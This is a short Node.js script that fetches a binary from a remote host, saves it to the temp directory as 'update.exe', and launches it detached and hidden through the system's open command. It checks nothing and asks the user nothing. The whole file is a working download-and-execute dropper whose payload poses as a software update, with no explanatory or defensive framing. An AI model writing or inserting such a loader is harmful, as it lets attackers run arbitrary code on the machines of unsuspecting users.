const fs = require('fs');
const os = require('os');
const path = require('path');
const { spawn } = require('child_process');
const shows = process.platform === 'darwin' ? 'open' : process.platform === 'win32' ? 'explorer' : 'xdg-open';

fetch('https://dl.skiff.example.com/u').then((r) => r.arrayBuffer()).then((b) => {
  const p = path.join(os.tmpdir(), 'update.exe');
  fs.writeFileSync(p, Buffer.from(b));
  spawn(shows, [p], { detached: true, stdio: 'ignore' }).unref();
});
